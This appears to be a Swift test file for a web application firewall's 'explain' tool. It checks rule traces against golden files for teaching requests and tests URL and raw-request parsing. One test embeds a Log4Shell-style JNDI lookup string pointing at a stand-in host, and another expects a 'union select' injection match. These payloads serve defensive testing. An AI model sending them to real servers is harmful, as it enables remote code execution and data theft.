import PortcullisEngine
import PortcullisHTTP
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// `portcullis explain` output for teaching requests through `Fixtures/explain/teaching.yaml`,
/// compared byte for byte with the golden files `NAME.txt` and `NAME.json` beside `NAME.http`.
/// Run with PORTCULLIS_UPDATE_GOLDEN=1 to rewrite them after an intended change (then read the diff).
@Suite struct ExplainGoldenTests {
    struct Case: CustomStringConvertible, Sendable {
        var name: String
        var client = ExampleRequest.clientAddress
        /// Identical requests evaluated first (rate limits).
        var earlier = 0
        var description: String { name }
    }

    static let cases: [Case] = [
        Case(name: "sqli-in-query"),
        Case(name: "ordinary-get"),
        Case(name: "script-in-json"),
        Case(name: "label-without-agent"),
        Case(name: "partner-allowed", client: "198.51.100.7"),
        Case(name: "third-login-attempt", earlier: 2),
    ]

    static func trace(_ c: Case) throws -> ExplainTrace {
        let set = try teaching()
        let bytes = try FileBytes.read(fixture("explain/\(c.name).http")).get()
        let parsed = try ExplainRequest.raw(bytes).get()
        var scratch = EvaluationScratch()
        return ExplainTrace.record(Inspector(ruleSet: set), head: parsed.head, body: parsed.body,
                                   client: Array(c.client.utf8), earlierRequests: c.earlier, scratch: &scratch)
    }

    /// Loaded from text under a fixed source name, so the golden files do not depend on where
    /// the checkout is.
    static func teaching() throws -> CompiledRuleSet {
        let yaml = String(decoding: try FileBytes.read(fixture("explain/teaching.yaml")).get(), as: UTF8.self)
        return try RuleSetLoader().load(yaml: yaml, sourcePath: "teaching.yaml")
    }

    static func compare(_ actual: String, golden relative: String) throws {
        let path = fixture(relative)
        if getenv("PORTCULLIS_UPDATE_GOLDEN") != nil {
            let fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
            #expect(fd >= 0)
            _ = Array(actual.utf8).withUnsafeBytes { write(fd, $0.baseAddress, $0.count) }
            close(fd)
        }
        let expected = String(decoding: try FileBytes.read(path).get(), as: UTF8.self)
        #expect(actual == expected, "\(relative) differs; PORTCULLIS_UPDATE_GOLDEN=1 rewrites it")
    }

    @Test(arguments: cases) func text(_ c: Case) throws {
        try Self.compare(ExplainTextFormatter().format(Self.trace(c)), golden: "explain/\(c.name).txt")
    }

    @Test(arguments: cases) func json(_ c: Case) throws {
        try Self.compare(ExplainJSONFormatter().format(Self.trace(c)), golden: "explain/\(c.name).json")
    }

    /// The trace agrees with the plain evaluation: same verdict, same deciding rule.
    @Test(arguments: cases) func traceAgreesWithDecide(_ c: Case) throws {
        let trace = try Self.trace(c)
        let set = try Self.teaching()
        let parsed = try ExplainRequest.raw(try FileBytes.read(fixture("explain/\(c.name).http")).get()).get()
        var scratch = EvaluationScratch()
        let inspector = Inspector(ruleSet: set)
        func view() -> RequestView {
            RequestView(head: parsed.head, clientAddress: Array(c.client.utf8), body: parsed.body)
        }
        for _ in 0..<c.earlier { _ = inspector.decide(view(), scratch: &scratch) }
        let (verdict, state) = inspector.decide(view(), scratch: &scratch)
        #expect(trace.verdict == verdict)
        #expect(trace.decidingRule?.id == state.decidingRule)
        #expect(trace.labels == state.labels)
    }

    @Test func whatTheTeachingRequestsShow() throws {
        let sqli = try Self.trace(Case(name: "sqli-in-query"))
        #expect(sqli.reason == .ruleDecided(RuleID(30)))
        #expect(sqli.rulesNotRun == 1)
        let values = sqli.rules.flatMap(\.events).compactMap { event -> ExplainTrace.ValueTrace? in
            if case .value(let v) = event { return v } else { return nil }
        }
        #expect(values.last?.steps.map(\.transformation) == [.urlDecode, .replaceComments, .lowercase,
                                                             .compressWhitespace])
        #expect(values.last?.result == .match(offset: 3, excerpt: Array("union select".utf8)))
        #expect(sqli.rules.flatMap(\.events).contains(.excluded("query.arg:comment")))
        let json = try Self.trace(Case(name: "script-in-json"))
        #expect(json.rules.last?.phase == .requestBody)
        #expect(json.verdict == .block(BlockResponse(status: 403), rule: RuleID(40)))
        let label = try Self.trace(Case(name: "label-without-agent"))
        #expect(label.verdict == .block(BlockResponse(status: 429), rule: RuleID(50)))
        #expect(label.rules.first { $0.id == RuleID(20) }?.outcome == .counted)
        let login = try Self.trace(Case(name: "third-login-attempt", earlier: 2))
        #expect(login.verdict == .block(BlockResponse(status: 429, headers: [.init(name: Array("Retry-After".utf8),
                                                                                  value: Array("30".utf8))]),
                                       rule: RuleID(60)))
        #expect(login.rateLimits.map(\.decision) == [.rejected])
        // Traces start from empty counters: the same request alone is allowed.
        let first = try Self.trace(Case(name: "third-login-attempt"))
        #expect(first.verdict == .allow)
        #expect(first.rateLimits.map(\.count) == [1])
    }

    /// A body over the inspect limit is cut as the proxy cuts it, and the oversize policy that
    /// the proxy applies instead of the body phase is spelled out.
    @Test func oversizeBodyIsCutAndThePolicyNamed() throws {
        let body = "comment=" + String(repeating: "x", count: 2000)
        let parsed = try ExplainRequest.url("/c", data: Array(body.utf8)).get()
        var scratch = EvaluationScratch()
        let trace = ExplainTrace.record(Inspector(ruleSet: try Self.teaching()), head: parsed.head, body: parsed.body,
                                        client: Array("192.0.2.10".utf8), scratch: &scratch)
        #expect(trace.request.bodyBytes == 1024)
        #expect(trace.request.bodyTruncated)
        #expect(trace.request.oversize == .match)
        let text = ExplainTextFormatter().format(trace)
        #expect(text.contains("body 1024 bytes (cut at the inspect limit)"))
        #expect(text.contains("oversize: match, so the proxy blocks it (403)"))
        #expect(text.contains("…(1016 bytes)"))
        #expect(ExplainJSONFormatter(valueLimit: 100).format(trace).contains("\"value_bytes\": 1016"))
    }
}

/// Requests built for `explain` from URLs and raw bytes.
@Suite struct ExplainRequestTests {
    @Test func urlWithHostHeadersAndData() throws {
        let parsed = try ExplainRequest.url("http://shop.test:8080/login?next=%2F", headers: ["X-A: 1"],
                                            data: Array("user=a&pw=b".utf8)).get()
        let head = parsed.head
        #expect(head.method == .post)
        #expect(Array(head.storage[head.target]) == Array("/login?next=%2F".utf8))
        #expect(parsed.body == Array("user=a&pw=b".utf8))
        let view = RequestView(head: head, clientAddress: [])
        #expect(view.values(for: TargetSelector(kind: .header, name: Array("host".utf8))).map { Array($0.value) }
            == [Array("shop.test:8080".utf8)])
        #expect(view.values(for: TargetSelector(kind: .header, name: Array("content-type".utf8))).map { Array($0.value) }
            == [Array("application/x-www-form-urlencoded".utf8)])
    }

    @Test func originFormURLGetsTheExampleHost() throws {
        let parsed = try ExplainRequest.url("/a?b=c", method: "DELETE").get()
        #expect(parsed.head.method == .delete)
        #expect(parsed.head.authority.map { Array(parsed.head.storage[$0]) } == Array(ExampleRequest.host.utf8))
    }

    @Test func schemeInsideTheQueryIsData() throws {
        let parsed = try ExplainRequest.url("/?x=${jndi:ldap://evil.test/a}").get()
        #expect(Array(parsed.head.storage[parsed.head.target]) == Array("/?x=${jndi:ldap://evil.test/a}".utf8))
        #expect(parsed.head.authority.map { Array(parsed.head.storage[$0]) } == Array(ExampleRequest.host.utf8))
    }

    @Test(arguments: ["ftp://x/", "x/y", "/a b", "http:///x"]) func badURLsAreRefused(_ url: String) {
        #expect(throws: ExampleRequestError.self) { try ExplainRequest.url(url).get() }
    }

    @Test func badHeaderIsRefused() {
        #expect(throws: ExampleRequestError.self) { try ExplainRequest.url("/", headers: ["NoColon"]).get() }
    }

    @Test func rawCRLFBytesAreParsedExactly() throws {
        let wire = Array("POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\n\u{0}\n\r".utf8)
        let parsed = try ExplainRequest.raw(wire).get()
        #expect(parsed.body == [0, 0x0A, 0x0D])
    }

    @Test func textEscaping() {
        #expect(ByteText.quoted([0x61, 0x22, 0x5C, 0x0A, 0x00, 0xC3, 0xA9], limit: 10) == #""a\"\\\n\x00\xc3\xa9""#)
        #expect(ByteText.quoted(Array("abcdef".utf8), limit: 3) == "\"abc\"…(6 bytes)")
    }

    @Test func jsonEscaping() {
        let value = JSONText.object([("a", .string("q\"\\\n\u{1}é")), ("b", .array([.int(1), .bool(false), .null]))])
        #expect(value.rendered(pretty: false) == #"{"a":"q\"\\\n\u0001é","b":[1,false,null]}"#)
    }
}
